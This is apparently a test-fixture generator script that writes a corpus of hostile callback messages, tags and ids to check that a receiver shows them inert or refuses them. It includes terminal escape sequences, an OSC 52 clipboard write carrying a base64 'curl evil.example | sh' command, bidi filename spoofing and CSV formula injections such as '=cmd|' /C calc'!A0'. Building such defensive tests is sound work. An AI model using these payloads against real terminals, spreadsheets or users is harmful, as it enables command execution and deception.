#!/usr/bin/env python3
"""Writes the hostile-text corpus: callbacks whose message, tagg or transaction id attack a terminal, a layout, a
CSV or a JSON reader. The bytes are in files (invalid UTF-8 and NUL cannot live in a Swift literal); this script
is the readable source of them. Run it from anywhere after editing: python3 Tests/Fixtures/HostileText/generate.py

manifest.tsv, one callback a line: name, transaction id (or "@file" for ids/<name>.bin), body format
(form | multipart | json | get), the status the receiver must answer, and a piece of what the console must show
for it (the inert form), or "-".
Each entry's message is messages/<name>.bin; its tagg is taggs/<name>.bin when present, else HELP.
"""
import base64
import os

HERE = os.path.dirname(os.path.abspath(__file__))
ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"
CLIP = base64.b64encode(b"curl evil.example | sh").decode()

# (name, message, shows, options): options may set id, tagg, format, status.
ENTRIES = [
    ("csi-clear-screen", ESC + "[2J" + ESC + "[H" + ESC + "[3J CLEARED", "␛[2J␛[H␛[3J CLEARED", {}),
    ("csi-cursor-moves", ESC + "[10;10Hmoved " + ESC + "[5Aup " + ESC + "[3Cright " + ESC + "7saved" + ESC + "8 "
     + ESC + "[999;999H corner", "␛[10;10Hmoved ␛[5Aup", {}),
    ("csi-sgr", ESC + "[31;1;5mRED BLINK" + ESC + "[0m " + ESC + "[8mhidden" + ESC + "[28m " + ESC
     + "[38;2;255;0;0mtruecolor " + ESC + "[7mreverse", "␛[31;1;5mRED BLINK␛[0m", {}),
    ("csi-modes", ESC + "[?1049h" + ESC + "[?25l" + ESC + "[1;3r" + ESC + "[?1000h" + ESC + "[?2004l" + ESC
     + "[K modes", "␛[?1049h␛[?25l", {}),
    ("osc0-title-bel", ESC + "]0;PWNED-TITLE" + BEL + " title", "␛]0;PWNED-TITLE␇ title", {}),
    ("osc2-title-st", ESC + "]2;PWNED-TITLE-ST" + ST + " title st", "␛]2;PWNED-TITLE-ST␛\\ title st", {}),
    ("osc52-clipboard-bel", ESC + "]52;c;" + CLIP + BEL + " clipboard", "␛]52;c;" + CLIP[:20], {}),
    ("osc52-clipboard-st", ESC + "]52;c;" + CLIP + ST + " clipboard st", "␛]52;c;" + CLIP[:20], {}),
    ("osc52-clipboard-query", ESC + "]52;c;?" + BEL + " query", "␛]52;c;?␇ query", {}),
    ("osc8-hyperlink", ESC + "]8;;http://evil.example/" + ST + "click me" + ESC + "]8;;" + ST,
     "␛]8;;http://evil.example/␛\\click me", {}),
    ("dcs-tmux-passthrough", ESC + "Ptmux;" + ESC + ESC + "]52;c;" + CLIP + BEL + ST + " passthrough",
     "␛Ptmux;␛␛]52;c;", {}),
    ("dcs-xtgettcap", ESC + "P+q544e" + ST + " " + ESC + "P1$r0m" + ST + " dcs", "␛P+q544e␛\\", {}),
    ("apc-pm-sos", ESC + "_APC payload" + ST + " " + ESC + "^PM payload" + ST + " " + ESC + "XSOS payload" + ST,
     "␛_APC payload␛\\ ␛^PM payload", {}),
    ("c1-controls-utf8", "c1:" + "".join(chr(c) for c in range(0x80, 0xA0)) + ":end", "c1:<80><81><82>", {}),
    ("c1-csi-utf8", "\u009b2J\u009b31mC1 CSI \u009d0;C1-TITLE\u009c \u0090DCS\u009c", "<9B>2J<9B>31mC1 CSI <9D>0;C1",
     {}),
    ("c1-raw-bytes", b"raw c1 \x9b2J \x9d0;RAW-TITLE\x9c \x8d\x8f\x90 end", "raw c1 ›2J <9D>0;RAW-TITLE",
     {}),
    ("bidi-overrides", "invoice\u202egnp.exe \u202aLRE\u202c \u202bRLE\u202c \u202dLRO\u202c", "invoicegnp.exe LRE",
     {}),
    ("bidi-isolates", "\u2066LRI\u2069 \u2067RLI\u2069 \u2068FSI\u2069 \u200eLRM\u200fRLM\u061cALM end",
     "LRI RLI FSI LRMRLMALM end", {}),
    ("cr-overwrite", "safe\rEVIL", "safe␍EVIL", {}),
    ("crlf-lines", "line1\r\nline2\r\n\r\nline4", "line1␍␊line2␍␊␍␊line4", {}),
    ("backspaces", "pay $100\b\b\b999 now", "pay $100␈␈␈999 now", {}),
    ("tab-lf-vt-ff", "a\tb\nc\x0bd\x0ce end", "a␉b␊c␋d␌e end", {}),
    ("all-c0-and-del", "c0:" + "".join(chr(c) for c in range(0x01, 0x20)) + "\x7f:end", "c0:␁␂␃␄␅␆␇␈␉", {}),
    ("nul-bytes", "nul\x00in\x00the\x00middle", "nul␀in␀the␀middle", {}),
    ("zero-width", "ze\u200bro\u200cwi\u200ddth\ufeff wo\u2060rd\u180e end", "zero", {}),
    ("zalgo", "".join(ch + "".join(chr(0x300 + (i * 7 + j) % 0x70) for j in range(30)) for i, ch in
                      enumerate("ZALGO HE COMES")) + " zalgo-end", "zalgo-end", {}),
    ("combining-500", "x" + "\u0301" * 500 + " after-500-marks", "after-500-marks", {}),
    ("long-line-words", " ".join("word%04d" % i for i in range(1112))[:10000], "word0000 word0001", {}),
    ("long-line-unbroken", ("0123456789" * 1000), "01234567890123456789", {}),
    ("long-line-escapes", (ESC + "[2J") * 2500, "␛[2J␛[2J␛[2J", {}),
    ("wide-cjk-odd", "a" + "日本語の文字" * 30, "a日本語の文字", {}),
    ("wide-cjk-even", "漢字かな" * 40, "漢字かな漢字かな", {}),
    ("emoji-sequences", "x👍🏽👨‍👩‍👧‍👦🇺🇸🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f" * 12 + " emoji-end",
     "emoji-end", {}),
    ("variation-selectors", "vs: ❤\ufe0f ☺\ufe0f #\ufe0f\u20e3 ✔\ufe0f \u2639\ufe0e vs-end", "vs-end", {}),
    ("unassigned-private-nonchar", "odd: \u0378 \ue000 \ufdd0 \uffff \U0010fffd \ufffd odd-end", "odd-end", {}),
    ("line-separators", "a\u2028b\u2029c\u0085d sep-end", "<85>d sep-end", {}),
    ("tag-characters", "hi\U000e0041\U000e0042\U000e0043 tags-end", "hi tags-end", {}),
    ("invalid-utf8-overlong", b"overlong \xc0\xaf \xe0\x80\xaf \xf0\x80\x80\xaf end", "overlong", {}),
    ("invalid-utf8-lone-continuation", b"lone \x80\x81\xbf cont", "lone", {}),
    ("invalid-utf8-truncated", b"trunc \xe6\x97 \xf0\x9f\x98 end", "trunc", {}),
    ("invalid-utf8-surrogates", b"surrogate \xed\xa0\x80\xed\xbf\xbf end", "surrogate", {}),
    ("invalid-utf8-with-escapes", b"\x1b[2J\xff\xfe\x1b]52;c;AAAA\x07 bad", "␛[2Jÿþ␛]52;c;AAAA␇ bad", {}),
    ("csv-formula-equals", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", {}),
    ("csv-formula-plus", "+1+cmd|' /C calc'!A0", "+1+cmd", {}),
    ("csv-formula-minus", "-2+3+cmd|' /C calc'!A0", "-2+3+cmd", {}),
    ("csv-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)", {}),
    ("csv-formula-tab", "\t=1+1", "␉=1+1", {}),
    ("csv-formula-cr", "\r=HYPERLINK(\"http://evil.example\")", "␍=HYPERLINK", {}),
    ("csv-formula-combining", "=\u0301HYPERLINK(\"http://evil.example\")", "HYPERLINK(", {}),
    ("csv-quotes-commas", "a,\"b\",c\n\"d,e", "a,\"b\",c␊\"d,e", {}),
    ("json-breakers", "\"}, {\"evil\": 1, \"x\": \"\\u001b[2J \\\\", "\"}, {\"evil\": 1", {}),
    # Hostile taggs (1 to 32 characters: accepted, flagged as unknown, shown inert).
    ("tagg-escape", "tagg with an escape", "tagg with an escape", {"tagg": ESC + "[2JT"}),
    ("tagg-bidi-only", "tagg that is one bidi override", "one bidi override", {"tagg": "\u202e"}),
    ("tagg-zalgo", "tagg of one base and 200 marks", "200 marks", {"tagg": "T" + "\u0301" * 200}),
    ("tagg-wide", "tagg of 32 wide characters", "32 wide", {"tagg": "日" * 32}),
    ("tagg-newlines", "tagg with line breaks", "line breaks", {"tagg": "\r\nTAGG\n"}),
    ("tagg-c1", "tagg with C1 CSI", "C1 CSI", {"tagg": "\u009b2J"}),
    ("tagg-invalid-utf8", "tagg of invalid UTF-8", "invalid UTF-8", {"tagg": b"\xff\x1b[2J\xc0"}),
    ("tagg-formula", "tagg that is a formula", "a formula", {"tagg": "=1+1"}),
    # Hostile ids the receiver accepts (printable ASCII, no space, at most 64).
    ("id-formula", "id that is a formula", "id that is a formula", {"id": "=HYPERLINK(\"http://evil.example\")"}),
    ("id-at", "id starting with @", "starting with @", {"id": "@SUM(1+1)"}),
    ("id-quotes-commas", "id with quotes and commas", "quotes and commas", {"id": "\"a\",b,'c'<d>"}),
    ("id-64", "id of 64 characters", "id of 64", {"id": "L" * 63 + "!"}),
    # Other body types carry the same attacks.
    ("multipart-escapes", ESC + "]52;c;" + CLIP + BEL + " via multipart \r EVIL", "via multipart ␍ EVIL",
     {"format": "multipart"}),
    ("multipart-invalid-utf8", b"multipart \x9b2J\xff end", "multipart ›2Jÿ end", {"format": "multipart"}),
    ("json-escapes", ESC + "[2J" + "\u202e via json \x00 nul", "␛[2J via json ␀ nul", {"format": "json"}),
    ("json-invalid-utf8", b"json \x9b2J\xff end", "json ›2Jÿ end", {"format": "json"}),
    ("get-query-escapes", ESC + "]0;GET-TITLE" + BEL + " via get", "␛]0;GET-TITLE␇ via get", {"format": "get"}),
    # Refused: nothing stored, a 400 naming the field.
    ("refused-id-escape", "never stored", "-", {"id": ESC + "[2J", "status": "400 transaction_id"}),
    ("refused-id-space", "never stored", "-", {"id": "a b", "status": "400 transaction_id"}),
    ("refused-id-nul", "never stored", "-", {"id": "id\x00nul", "status": "400 transaction_id"}),
    ("refused-id-del", "never stored", "-", {"id": "id\x7f", "status": "400 transaction_id"}),
    ("refused-id-c1", "never stored", "-", {"id": "id\u009b2J", "status": "400 transaction_id"}),
    ("refused-id-bidi", "never stored", "-", {"id": "id\u202e", "status": "400 transaction_id"}),
    ("refused-id-invalid-utf8", "never stored", "-", {"id": b"id\xff", "status": "400 transaction_id"}),
    ("refused-id-65", "never stored", "-", {"id": "L" * 65, "status": "400 transaction_id"}),
    ("refused-id-empty", "never stored", "-", {"id": "", "status": "400 transaction_id"}),
    ("refused-tagg-33", "never stored", "-", {"id": "hx-refused-tagg-33", "tagg": "T" * 33, "status": "400 tagg"}),
    ("refused-tagg-empty", "never stored", "-", {"id": "hx-refused-tagg-empty", "tagg": "", "status": "400 tagg"}),
    ("refused-json-escape-id", "never stored", "-",
     {"id": ESC + "]52;c;AAAA" + BEL, "format": "json", "status": "400 transaction_id"}),
]


def as_bytes(value):
    return value if isinstance(value, bytes) else value.encode("utf-8")


def main():
    for folder in ("messages", "taggs", "ids"):
        os.makedirs(os.path.join(HERE, folder), exist_ok=True)
        for old in os.listdir(os.path.join(HERE, folder)):
            os.remove(os.path.join(HERE, folder, old))
    lines = []
    for number, (name, message, shows, options) in enumerate(ENTRIES, start=1):
        with open(os.path.join(HERE, "messages", name + ".bin"), "wb") as out:
            out.write(as_bytes(message))
        if "tagg" in options:
            with open(os.path.join(HERE, "taggs", name + ".bin"), "wb") as out:
                out.write(as_bytes(options["tagg"]))
        identifier = options.get("id", "hx-%03d" % number)
        printable = isinstance(identifier, str) and identifier and all(0x21 <= ord(c) <= 0x7E for c in identifier)
        if not printable or "\t" in identifier:
            with open(os.path.join(HERE, "ids", name + ".bin"), "wb") as out:
                out.write(as_bytes(identifier))
            identifier = "@file"
        fields = [name, identifier, options.get("format", "form"), options.get("status", "200"), shows]
        assert all("\t" not in field and "\n" not in field for field in fields), name
        lines.append("\t".join(fields))
    with open(os.path.join(HERE, "manifest.tsv"), "w", encoding="utf-8") as out:
        out.write("# name\tid\tformat\tstatus\tshows (generated by generate.py: edit that, not this)\n")
        out.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
